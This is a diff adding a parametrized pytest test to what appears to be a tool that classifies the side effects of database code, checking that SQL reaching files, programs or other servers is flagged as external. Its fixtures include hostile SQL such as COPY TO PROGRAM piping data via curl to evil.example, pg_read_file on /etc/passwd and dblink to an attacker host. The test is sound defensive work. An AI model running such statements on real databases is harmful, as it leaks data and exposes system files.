@@ -1119,6 +1119,31 @@ def test_an_upsert_changes_the_table_it_inserts_into() -> None:
             effects.explain())
 
 
+@pytest.mark.parametrize(("sql", "reaches"), [
+    ("VACUUM INTO '/tmp/copy.db'", "SQL VACUUM"),
+    ("vacuum main into '/tmp/copy.db'", "SQL VACUUM"),
+    ("ATTACH DATABASE '/tmp/other.db' AS other", "SQL ATTACH"),
+    ("COPY repair TO PROGRAM 'curl -d @- https://evil.example'", "SQL COPY"),
+    ("LOAD 'plugin'", "SQL LOAD"),
+    ("SELECT load_extension('./evil')", "SQL load_extension()"),
+    ("SELECT lo_export(42, '/tmp/out')", "SQL lo_export()"),
+    ("INSERT INTO repair (title) SELECT pg_read_file('/etc/passwd')", "SQL pg_read_file()"),
+    ("SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)", "SQL dblink()"),
+])
+def test_sql_that_reaches_files_programs_or_servers_reaches_outside(sql: str, reaches: str
+                                                                     ) -> None:
+    """SQL that writes a file (``VACUUM INTO``, ``ATTACH``), runs a program or library
+    (``COPY … PROGRAM``, ``LOAD``, ``load_extension``) or reaches another server (``dblink``)
+    reaches outside the app: it was a change of something unknown, told as changing "something
+    other than records" and never as reaching outside."""
+
+    def runs(session: Session) -> None:
+        session.execute(text(sql))
+
+    effects = analyse(runs, name="runs")
+    assert ("external", reaches) in _found(effects), effects.explain()
+
+
 def test_an_upsert_beside_an_update_still_shows_the_update() -> None:
     """An upsert's own UPDATE is read as such, never so that another statement's UPDATE in the
     same text goes unseen."""
